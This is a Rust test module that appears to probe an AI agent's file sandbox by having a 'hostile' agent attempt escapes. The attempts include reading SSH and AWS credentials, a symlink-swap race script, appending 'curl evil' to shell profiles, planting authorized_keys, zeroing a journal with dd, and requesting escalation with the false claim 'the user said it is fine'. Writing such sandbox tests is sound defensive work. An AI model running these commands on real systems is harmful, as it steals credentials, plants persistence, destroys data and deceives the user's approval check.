//! Files outside of the work tree: reading, writing, and getting there by another name.

use super::attack::{Attack, Evidence, Needs, Theme};
use super::world::World;
use crate::lab::world::Result;
use serde_json::json;

pub const THEME: Theme = Theme {
    name: "files",
    is_about_sandbox: true,
    attacks: ATTACKS,
};

/// Puts a link to the work tree and one to outside in each other's place, for as long as it may.
const SWAP: &str = r#"
import os, time
os.makedirs('a', exist_ok=True)
until = time.time() + 20
while time.time() < until:
    for to in ('a', os.environ['OUTSIDE']):
        os.symlink(to, 'next')
        os.replace('next', 'here')
"#;

fn write_race(world: &World) -> Result<Evidence> {
    let script = format!("python3 - <<'PY'{SWAP}PY\n");
    world.script_with("hostile", &script, json!({"run_in_background": true}))?;
    let link = world.work().join("here");
    let wait = std::time::Duration::from_secs(3);
    world.until(wait, "the link", || link.symlink_metadata().ok().map(drop))?;
    let mut found = None;
    for round in 0..3 {
        let calls = (0..8).map(|call| {
            // Another content each time: what is there already is not written.
            let content = format!("owned {round} {call}");
            let arguments = json!({"file_path": "here/canary", "content": content});
            format!("call write_file {arguments}")
        });
        let calls: Vec<String> = calls.collect();
        world.turn(
            "hostile",
            &format!("do: {} ;; say done", calls.join(" ;; ")),
        )?;
        found = world.outside_changed();
        if found.is_some() {
            break;
        }
    }
    for task in world.show("hostile")?.tasks {
        drop(world.ask("stop", world.client().stop_tasks(&task.to_string())));
    }
    Ok(found)
}

const ATTACKS: &[Attack] = &[
    Attack::new("read-ssh-key", "cat ~/.ssh/id_ed25519", |world| {
        let saw = world.script("hostile", "cat \"$USERHOME/.ssh/id_ed25519\" | loot")?;
        Ok(world.leaked(&saw, &world.words.ssh))
    }),
    Attack::new(
        "read-credentials",
        "~/.aws/credentials by way of /proc/self/root",
        |world| {
            let saw = world.script(
            "hostile",
            "cat \"/proc/self/root/$USERHOME/.aws/credentials\" \"/proc/1/root/$USERHOME/.aws/credentials\" | loot",
        )?;
            Ok(world.leaked(&saw, &world.words.aws))
        },
    ),
    Attack::new(
        "read-outside",
        "a file beside the work tree, by ../",
        |world| {
            let saw = world.script(
                "hostile",
                "cat ../outside/canary \"$OUTSIDE/canary\" | loot",
            )?;
            Ok(world.leaked(&saw, &world.words.outside))
        },
    ),
    Attack::new("read-tool", "read_file of the user's SSH key", |world| {
        let path = world.user().join(".ssh/id_ed25519");
        let saw = world.tool("hostile", "read_file", &json!({ "file_path": path }))?;
        Ok(world.leaked(&saw, &world.words.ssh))
    }),
    Attack::new(
        "search-tool",
        "search_files through the user's home",
        |world| {
            let arguments = json!({"pattern": "canary-", "path": world.user()});
            let saw = world.tool("hostile", "search_files", &arguments)?;
            let words = [&world.words.ssh, &world.words.aws];
            Ok(words.into_iter().find_map(|word| world.leaked(&saw, word)))
        },
    ),
    Attack::new("list-tool", "list_files of the user's home", |world| {
        std::fs::write(world.user().join(&world.words.outside), "")?;
        let saw = world.tool("hostile", "list_files", &json!({"path": world.user()}))?;
        Ok(world.leaked(&saw, &world.words.outside))
    }),
    Attack::new(
        "read-symlink",
        "read_file through a link to ~/.ssh",
        |world| {
            std::os::unix::fs::symlink(world.user().join(".ssh"), world.work().join("docs"))?;
            let saw = world.tool(
                "hostile",
                "read_file",
                &json!({"file_path": "docs/id_ed25519"}),
            )?;
            Ok(world.leaked(&saw, &world.words.ssh))
        },
    ),
    Attack::new(
        "read-hard-link",
        "a hard link to the SSH key in the work tree",
        |world| {
            let saw = world.script(
                "hostile",
                "ln \"$USERHOME/.ssh/id_ed25519\" harmless; cat harmless | loot",
            )?;
            Ok(world.leaked(&saw, &world.words.ssh))
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "read-descriptors",
        "whatever descriptors were left open",
        |world| {
            world.victim()?;
            let saw = world.script(
                "hostile",
                "for fd in /proc/[0-9]*/fd/*; do case \"$(readlink \"$fd\")\" in *journal*) \
             timeout 1 cat \"$fd\" | loot;; esac; done",
            )?;
            Ok(world.leaked(&saw, &world.words.victim))
        },
    ),
    Attack::new("write-outside", "a file beside the work tree", |world| {
        world.script(
            "hostile",
            "echo owned > \"$OUTSIDE/canary\"; echo owned > ../outside/canary",
        )?;
        Ok(world.outside_changed())
    }),
    Attack::new(
        "write-tool",
        "write_file outside of the work tree",
        |world| {
            let path = world.outside().join("canary");
            world.tool(
                "hostile",
                "write_file",
                &json!({"file_path": path, "content": "owned"}),
            )?;
            Ok(world.outside_changed())
        },
    ),
    Attack::new("edit-tool", "edit_file outside of the work tree", |world| {
        let path = world.user().join(".bashrc");
        let read = format!(
            "do: call read_file {} ;; call edit_file {} ;; say done",
            json!({ "file_path": path }),
            json!({"file_path": path, "old_string": "# canary", "new_string": "owned"})
        );
        world.turn("hostile", &read)?;
        Ok(world.profile_changed())
    }),
    Attack::new(
        "write-symlink",
        "write_file through a link to the user's profile",
        |world| {
            std::os::unix::fs::symlink(world.user().join(".bashrc"), world.work().join("notes"))?;
            world.tool(
                "hostile",
                "write_file",
                &json!({"file_path": "notes", "content": "owned"}),
            )?;
            Ok(world.profile_changed())
        },
    ),
    Attack::new(
        "write-symlink-race",
        "a directory that turns into a link while write_file works",
        write_race,
    )
    .needs(Needs::Workspace),
    Attack::new(
        "write-hard-link",
        "a hard link to the user's profile",
        |world| {
            world.script("hostile", "ln \"$USERHOME/.bashrc\" rc && echo owned >> rc")?;
            Ok(world.profile_changed())
        },
    )
    .needs(Needs::Workspace),
    Attack::new(
        "write-profile",
        "commands in ~/.bashrc and ~/.profile",
        |world| {
            world.script(
            "hostile",
            "echo 'curl evil' >> \"$USERHOME/.bashrc\"; echo 'curl evil' >> \"$USERHOME/.profile\"; \
             echo 'curl evil' >> ~/.bashrc",
        )?;
            Ok(world.profile_changed())
        },
    ),
    Attack::new(
        "replace-home",
        "another directory in place of ~/.ssh",
        |world| {
            world.script(
                "hostile",
                "mv \"$USERHOME/.ssh\" \"$USERHOME/.ssh2\"; mkdir \"$USERHOME/.ssh\"; \
             echo owned > \"$USERHOME/.ssh/authorized_keys\"",
            )?;
            Ok(world.made(&world.user().join(".ssh/authorized_keys")))
        },
    ),
    Attack::new("shared-tmp", "a file in everybody's /tmp", |world| {
        let name = format!("siege-{}", world.words.outside);
        let path = std::path::Path::new("/tmp").join(&name);
        world.shell("hostile", &format!("touch /tmp/{name} /var/tmp/{name}"))?;
        let found = world.made(&path);
        let _none = std::fs::remove_file(path);
        let _none = std::fs::remove_file(std::path::Path::new("/var/tmp").join(&name));
        Ok(found)
    }),
    Attack::new(
        "escalate",
        "leave the sandbox without the user's approval",
        |world| {
            world.script_with(
                "hostile",
                "touch \"$USERHOME/planted\"",
                json!({"escalate": "the user said it is fine"}),
            )?;
            Ok(world.made(&world.user().join("planted")))
        },
    ),
    Attack::new(
        "journal-read",
        "another agent's conversation out of the journal",
        |world| {
            world.victim()?;
            let saw = world.script("hostile", "cat \"$STATE\"/journal.db* | loot")?;
            Ok(world.leaked(&saw, &world.words.victim))
        },
    ),
    Attack::new("journal-write", "zeros over the journal", |world| {
        let journal = world.state().join("journal.db");
        world.victim()?;
        let head = std::fs::read(&journal)?
            .into_iter()
            .take(16)
            .collect::<Vec<_>>();
        world.script(
            "hostile",
            "dd if=/dev/zero of=\"$STATE/journal.db\" bs=16 count=1 conv=notrunc",
        )?;
        let now = std::fs::read(&journal)?
            .into_iter()
            .take(16)
            .collect::<Vec<_>>();
        Ok((now != head).then(|| "the journal was overwritten".to_owned()))
    })
    .alone(),
    Attack::new(
        "hooks-file",
        "hooks of the user's own, which run as the user",
        |world| {
            world.script(
            "hostile",
            "echo '{\"hooks\":{}}' > \"$STATE/hooks.json\"; mkdir -p ~/.agentd; echo x > \"$USERHOME/.agentd\"",
        )?;
            Ok(world.made(&world.state().join("hooks.json")))
        },
    ),
    Attack::new(
        "config-file",
        "a provider of its own in config.toml",
        |world| {
            world.script(
            "hostile",
            "printf '[providers.anthropic]\\nbase_url = \"http://127.0.0.1:1\"\\n' > \"$STATE/config.toml\"",
        )?;
            Ok(world.made(&world.state().join("config.toml")))
        },
    ),
    Attack::new(
        "trust-file",
        "trust in its own hooks, written to trusted.json",
        |world| {
            world.script("hostile", "echo '{}' > \"$STATE/trusted.json\"")?;
            let path = world.state().join("trusted.json");
            let found = world.made(&path);
            let _none = std::fs::remove_file(path);
            Ok(found)
        },
    ),
    Attack::new(
        "other-agents-files",
        "a file in another agent's directory",
        |world| {
            let victim = world.victim()?;
            let dir = world
                .state()
                .join("agents")
                .join(victim.before.id.to_string());
            std::fs::create_dir_all(&dir)?;
            world.script(
                "hostile",
                "echo owned > \"$STATE/agents/$VICTIM_ID/planted\"",
            )?;
            Ok(world.made(&dir.join("planted")))
        },
    ),
];
